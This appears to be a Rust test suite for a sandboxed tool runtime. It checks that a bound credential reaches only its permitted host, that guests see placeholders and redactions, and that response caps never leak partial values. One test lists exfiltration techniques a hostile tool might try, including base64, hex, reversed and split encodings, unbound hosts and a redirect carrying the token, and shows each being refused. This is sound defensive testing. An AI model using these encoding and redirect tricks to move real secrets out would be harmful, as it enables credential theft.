//! Secrets at the HTTP layer (docs/runtime.md#secrets): the host puts a bound secret
//! into requests to its hosts, a guest sees only the placeholder and redactions, and a
//! hostile tool's every way of sending a value elsewhere is refused and recorded.

use std::io::Read as _;
use std::sync::Mutex;

use base64::Engine as _;
use bx_broker::{CallRequest, Decision, Policy, Resource};
use bx_runtime::{Direction, Encoding, SecretActivity, Secrets};
use bx_runtime::{Limits, Runtime};
use serde_json::{Value, json};

use super::*;

const VALUE: &str = "ghp_s3cr3tV4lue_0123456789abcdef";

/// A loopback HTTP/1.1 server that keeps every request whole (head and body) and
/// answers each with it as the body, or with a redirect to what follows `/go?to=`.
struct Echo {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Echo {
    fn start() -> Echo {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { break };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut head = String::new();
                let mut length = 0usize;
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        length = v.trim().parse().unwrap_or(0);
                    }
                    head.push_str(&line);
                }
                let mut body = vec![0; length];
                reader.read_exact(&mut body).unwrap();
                let request = format!("{head}\r\n{}", String::from_utf8_lossy(&body));
                kept.lock().unwrap().push(request.clone());
                let target = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
                let reply = match target.strip_prefix("/go?to=") {
                    Some(to) => format!(
                        "HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                    ),
                    None => format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\nx-echo: {}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{request}",
                        head.lines().find(|l| l.starts_with("authorization")).unwrap_or("none"),
                        request.len()
                    ),
                };
                let _ = stream.write_all(reply.as_bytes());
            }
        });
        Echo { port, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }
}

/// The bound server, the other one, and the grant for `test.hostile` to reach both,
/// with secret `gh` bound to the first as a bearer token.
fn setup(binding: &str) -> (Echo, Echo, bx_broker::Grant) {
    let (bound, other) = (Echo::start(), Echo::start());
    let policy = format!(
        "[[grant]]\ntool = \"test.hostile\"\nhost = \"127.0.0.1:{b}\"\nmode = \"fetch\"\nlabel = \"public/untrusted\"\n\
         [[grant]]\ntool = \"test.hostile\"\nhost = \"127.0.0.1:{o}\"\nmode = \"fetch\"\nlabel = \"public/untrusted\"\n\
         [[secret]]\nname = \"gh\"\ntool = \"test.hostile\"\nhost = \"127.0.0.1:{b}\"\n{binding}\n",
        b = bound.port,
        o = other.port
    );
    let policy = Policy::parse("p.toml", &policy).unwrap();
    let t = tool("test_hostile");
    let call = CallRequest {
        tool: "test.hostile".into(),
        digest: t.digest().into(),
        resources: vec![Resource::Url(bound.url("/")), Resource::Url(other.url("/"))],
    };
    let Decision::Allow(grant) = bx_broker::decide(&policy, Label::CLEAN, &call) else {
        panic!("the policy refused its own hosts")
    };
    (bound, other, grant)
}

fn secrets() -> Secrets {
    Secrets::new([("gh".to_owned(), VALUE.to_owned())]).unwrap()
}

fn send(grant: &bx_broker::Grant, args: Value) -> (Result<CallReport, RunError>, SecretActivity) {
    let t = tool("test_hostile");
    runtime().call_with_blocking(t, grant.clone(), &args.to_string(), &secrets()).unwrap()
}

#[test]
fn a_bound_host_gets_the_value_and_the_guest_sees_only_placeholders_and_redactions() {
    let (bound, _other, grant) = setup("header.authorization = \"Bearer {secret:gh}\"");
    let args = json!({"mode": "send", "url": bound.url("/user"),
                      "headers": [["x-copy", "{secret:gh}"]]});
    let (report, activity) = send(&grant, args);
    let out: Value = serde_json::from_str(&ok_text(report)).unwrap();
    // The server saw the value, put in by the host, in the bound header and in the
    // guest's own header that held the placeholder.
    let seen = bound.seen().join("\n");
    assert!(seen.contains(&format!("authorization: Bearer {VALUE}")), "{seen}");
    assert!(seen.contains(&format!("x-copy: {VALUE}")), "{seen}");
    // The guest's view: its request as built (placeholders), the echo redacted.
    assert_eq!(out["sent"]["headers"], json!([["x-copy", "{secret:gh}"]]));
    let body = out["body"].as_str().unwrap();
    assert!(body.contains("authorization: Bearer [redacted secret gh]"), "{body}");
    assert!(!out.to_string().contains(VALUE), "{out}");
    let echoed = out["headers"].to_string();
    assert!(echoed.contains("[redacted secret gh]") && !echoed.contains(VALUE), "{echoed}");
    let port = bound.port;
    assert_eq!(activity.used, vec![("gh".to_owned(), "127.0.0.1".to_owned())], "{port}");
    assert!(
        activity.leaks.iter().all(|l| l.direction == Direction::Response),
        "{:?}",
        activity.leaks
    );
    assert!(!activity.leaks.is_empty());
}

#[test]
fn a_query_binding_and_an_environment_placeholder() {
    let (bound, _other, grant) = setup("query.key = \"{secret:gh}\"\nenv = \"GH_TOKEN\"");
    let (report, _) = send(&grant, json!({"mode": "env", "name": "GH_TOKEN"}));
    assert_eq!(ok_text(report), json!({"value": "{secret:gh}"}).to_string());
    let args = json!({"mode": "send", "url": bound.url("/q?a=1&key=mine")});
    let (report, activity) = send(&grant, args);
    let out: Value = serde_json::from_str(&ok_text(report)).unwrap();
    let seen = bound.seen().join("\n");
    assert!(seen.contains(&format!("GET /q?a=1&key={VALUE} ")), "{seen}");
    assert!(!out.to_string().contains(VALUE), "{out}");
    assert!(!out["url"].as_str().unwrap().contains(VALUE), "{out}");
    assert_eq!(activity.used.len(), 1);
}

#[test]
fn every_way_a_hostile_tool_sends_a_value_elsewhere_is_refused_and_recorded() {
    let (bound, other, grant) = setup("header.authorization = \"Bearer {secret:gh}\"");
    let b64 =
        |prefix: &str| base64::engine::general_purpose::STANDARD.encode(format!("{prefix}{VALUE}"));
    let half = VALUE.len() / 2;
    let attempts: Vec<(&str, Value, Encoding)> = vec![
        (
            "the placeholder to an unbound host",
            json!({"mode": "send", "url": other.url("/x"), "headers": [["authorization", "{secret:gh}"]]}),
            Encoding::Raw, // (refused as unbound, not by the guard)
        ),
        (
            "the value",
            json!({"mode": "send", "url": other.url(&format!("/?t={VALUE}"))}),
            Encoding::Raw,
        ),
        (
            "base64 at offset 0",
            json!({"mode": "send", "url": other.url("/"), "method": "POST", "body": b64("")}),
            Encoding::Base64(0),
        ),
        (
            "base64 at offset 1",
            json!({"mode": "send", "url": other.url("/"), "method": "POST", "body": b64("a")}),
            Encoding::Base64(1),
        ),
        (
            "base64 at offset 2",
            json!({"mode": "send", "url": other.url("/"), "method": "POST", "body": b64("ab")}),
            Encoding::Base64(2),
        ),
        (
            "hex",
            json!({"mode": "send", "url": other.url("/"), "headers": [["x-d", hex::encode(VALUE)]]}),
            Encoding::Hex,
        ),
        (
            "reversed",
            json!({"mode": "send", "url": other.url("/"), "method": "POST", "body": VALUE.chars().rev().collect::<String>()}),
            Encoding::Reversed,
        ),
        (
            "first half",
            json!({"mode": "send", "url": other.url(&format!("/?p={}", &VALUE[..half]))}),
            Encoding::Part,
        ),
        (
            "second half",
            json!({"mode": "send", "url": other.url(&format!("/?p={}", &VALUE[half..]))}),
            Encoding::Part,
        ),
        (
            "the placeholder in a body to the bound host",
            json!({"mode": "send", "url": bound.url("/gist"), "method": "POST", "body": "{secret:gh}"}),
            Encoding::Raw,
        ),
        (
            "a redirect from the bound host that carries the value elsewhere",
            json!({"mode": "send", "url": bound.url(&format!("/go?to={}", other.url(&format!("/?stolen={VALUE}"))))}),
            Encoding::Raw,
        ),
    ];
    for (what, args, encoding) in attempts {
        let (report, activity) = send(&grant, args);
        let why = denied(report);
        assert!(why.contains("docs/runbook.md#secret-"), "{what}: {why}");
        assert!(!why.contains(VALUE), "{what}: {why}");
        if why.contains("#secret-leak") {
            let leak = activity.leaks.first().unwrap_or_else(|| panic!("{what}: no leak noted"));
            assert_eq!(
                (leak.name.as_str(), leak.direction, leak.encoding),
                ("gh", Direction::Request, encoding),
                "{what}"
            );
        }
    }
    // The other server never saw the value, whole or in part, in any spelling.
    let seen = other.seen().join("\n");
    assert_eq!(secrets().find(seen.as_bytes()), vec![], "{seen}");
}

#[test]
fn an_echo_forwarded_elsewhere_carries_only_the_redaction() {
    let (bound, other, grant) = setup("header.authorization = \"Bearer {secret:gh}\"");
    let (report, _) = send(&grant, json!({"mode": "send", "url": bound.url("/echo")}));
    let echoed: Value = serde_json::from_str(&ok_text(report)).unwrap();
    let body = echoed["body"].as_str().unwrap().to_owned();
    let args = json!({"mode": "send", "url": other.url("/"), "method": "POST", "body": body});
    let (report, activity) = send(&grant, args);
    ok_text(report);
    assert!(activity.used.is_empty(), "{activity:?}");
    let seen = other.seen().join("\n");
    assert!(seen.contains("[redacted secret gh]") && !seen.contains(VALUE), "{seen}");
}

#[test]
fn output_stdout_and_errors_are_redacted() {
    let (_bound, _other, grant) = setup("header.authorization = \"Bearer {secret:gh}\"");
    let (report, activity) = send(&grant, json!({"mode": "echo", "text": format!("k={VALUE}")}));
    assert_eq!(ok_text(report), "k=[redacted secret gh]");
    assert_eq!(activity.leaks[0].direction, Direction::Output);
    let (report, _) = send(&grant, json!({"mode": "big-error", "bytes": 3}));
    assert!(matches!(report.unwrap().result, Err(CallError::Failed(_))));
}

#[test]
fn plain_http_to_a_named_host_never_carries_a_secret() {
    // The binding names a host by name; plain http to it is refused before anything is
    // sent (the name would also have to resolve to a public address).
    let policy = "[[grant]]\ntool = \"test.hostile\"\nhost = \"example.com\"\nmode = \"fetch\"\nlabel = \"public/untrusted\"\n\
                  [[secret]]\nname = \"gh\"\ntool = \"test.hostile\"\nhost = \"example.com\"\nheader.authorization = \"Bearer {secret:gh}\"\n";
    let policy = Policy::parse("p.toml", policy).unwrap();
    let t = tool("test_hostile");
    let call = CallRequest {
        tool: "test.hostile".into(),
        digest: t.digest().into(),
        resources: vec![Resource::Url("http://example.com/".into())],
    };
    let Decision::Allow(grant) = bx_broker::decide(&policy, Label::CLEAN, &call) else { panic!() };
    let (report, activity) = send(&grant, json!({"mode": "send", "url": "http://example.com/"}));
    let why = denied(report);
    assert!(why.contains("#secret-plain-http"), "{why}");
    assert!(activity.used.is_empty());
}

/// A server that answers every request with `reply(request_head)`.
fn answering(reply: impl Fn(&str) -> Vec<u8> + Send + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { break };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut head = String::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                head.push_str(&line);
            }
            let _ = stream.write_all(&reply(&head));
        }
    });
    port
}

fn grant_to(port: u16) -> bx_broker::Grant {
    let policy = format!(
        "[[grant]]\ntool = \"test.hostile\"\nhost = \"127.0.0.1:{port}\"\nmode = \"fetch\"\nlabel = \"public/untrusted\"\n\
         [[secret]]\nname = \"gh\"\ntool = \"test.hostile\"\nhost = \"127.0.0.1:{port}\"\nheader.authorization = \"Bearer {{secret:gh}}\"\n"
    );
    let t = tool("test_hostile");
    let call = CallRequest {
        tool: "test.hostile".into(),
        digest: t.digest().into(),
        resources: vec![Resource::Url(format!("http://127.0.0.1:{port}/"))],
    };
    match bx_broker::decide(&Policy::parse("p.toml", &policy).unwrap(), Label::CLEAN, &call) {
        Decision::Allow(g) => g,
        other => panic!("{other:?}"),
    }
}

/// Regression: a value across the response cap reached the guest in part (its first
/// bytes, under the half the guard looks for), enough to start guessing the rest.
#[test]
fn a_value_across_the_response_cap_is_redacted_before_the_cut() {
    // A small cap, so the guest's answer (the whole body, as JSON) fits its output cap.
    let cap = 4096;
    let rt = Runtime::new(Limits { response_bytes: cap as u64, ..test_limits() }).unwrap();
    let bytes = component_bytes("test_hostile");
    let t = rt.load_blocking(&rt.compile(&bytes).unwrap(), &digest_of(&bytes)).unwrap();
    for before in [1, 11, 16, VALUE.len() - 1] {
        let port = answering(move |_| {
            let mut body = vec![b'x'; cap - before];
            body.extend_from_slice(VALUE.as_bytes());
            body.extend_from_slice(&[b'y'; 100]);
            let mut out = format!(
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            )
            .into_bytes();
            out.extend_from_slice(&body);
            out
        });
        let args = json!({"mode": "send", "url": format!("http://127.0.0.1:{port}/big")});
        let (report, activity) =
            rt.call_with_blocking(&t, grant_to(port), &args.to_string(), &secrets()).unwrap();
        let out: Value = serde_json::from_str(&ok_text(report)).unwrap();
        let body = out["body"].as_str().unwrap();
        // Cut where the server's bytes cross the cap: the value that starts before it is
        // replaced whole (its redaction cut at the cap where it runs past it), and what
        // follows it is not kept.
        let whole = format!("{}[redacted secret gh]", "x".repeat(cap - before));
        assert_eq!(body, &whole[..whole.len().min(cap)], "{before}");
        assert_eq!(secrets().find(body.as_bytes()), vec![], "{before}");
        let tail = (1..=VALUE.len()).find(|k| body.ends_with(&VALUE[..*k]));
        assert_eq!(tail, None, "{before}: the body ends with the value's first bytes");
        assert!(!activity.leaks.is_empty(), "{before}");
    }
}

/// Regression: redaction shortens a body, so one holding many copies of a value fell
/// under the cap once redacted and kept the copy that the read limit cut: its first
/// bytes, fewer than the half the guard looks for, reached the guest. The cut is now
/// made where the server's bytes cross the cap, for every spelling the guard knows, and
/// headers (never cut) are redacted whole.
#[test]
fn copies_redacted_under_the_cap_leave_no_part_of_the_one_at_the_cut() {
    let cap = 4096;
    let rt = Runtime::new(Limits { response_bytes: cap as u64, ..test_limits() }).unwrap();
    let bytes = component_bytes("test_hostile");
    let t = rt.load_blocking(&rt.compile(&bytes).unwrap(), &digest_of(&bytes)).unwrap();
    // A long value, so that each copy's redaction is much shorter than the copy.
    let value: String =
        (0..300u32).map(|i| char::from(b'a' + ((i * 7 + i / 26) % 26) as u8)).collect();
    let guard = Secrets::new([("gh".to_owned(), value.clone())]).unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(&value);
    let percent: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
    for spelling in [value.clone(), hex::encode(&value), b64.clone(), percent] {
        for filler in [0, 1, 77, 150, 299] {
            let (one, head) = (spelling.clone(), format!("{} {b64}", hex::encode(&value)));
            let port = answering(move |_| {
                let mut body = vec![b'x'; filler];
                while body.len() < 4 * cap + 4 * one.len() {
                    body.extend_from_slice(one.as_bytes());
                }
                let mut out = format!(
                    "HTTP/1.1 200 OK\r\nx-token: {head}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                )
                .into_bytes();
                out.extend_from_slice(&body);
                out
            });
            let args = json!({"mode": "send", "url": format!("http://127.0.0.1:{port}/many")});
            let (report, activity) =
                rt.call_with_blocking(&t, grant_to(port), &args.to_string(), &guard).unwrap();
            let out: Value = serde_json::from_str(&ok_text(report)).unwrap();
            let body = out["body"].as_str().unwrap();
            let what = format!("{} bytes of filler, {} bytes a copy", filler, spelling.len());
            // What is left is the filler and whole redactions, nothing of a copy.
            assert_eq!(body.replace("[redacted secret gh]", ""), "x".repeat(filler), "{what}");
            assert!(body.len() <= cap, "{what}");
            let headers = out["headers"].to_string();
            assert!(headers.contains("[redacted secret gh] [redacted secret gh]"), "{headers}");
            assert_eq!(guard.find(out.to_string().as_bytes()), vec![], "{what}");
            assert!(!activity.leaks.is_empty(), "{what}");
        }
    }
}

/// A server that answers a request carrying a secret with a compressed body is refused:
/// the guard cannot look through it.
#[test]
fn a_compressed_answer_to_a_request_with_a_secret_is_refused() {
    let port = answering(|head| {
        // What a server does when asked for identity and compressing anyway.
        assert!(head.contains("accept-encoding: identity"), "{head}");
        b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 4\r\nconnection: close\r\n\r\nxxxx"
            .to_vec()
    });
    let url = format!("http://127.0.0.1:{port}/gz");
    let (report, _) = send(&grant_to(port), json!({"mode": "send", "url": url}));
    let why = denied(report);
    assert!(why.contains("compressed body") && why.contains("#secret-leak"), "{why}");
}
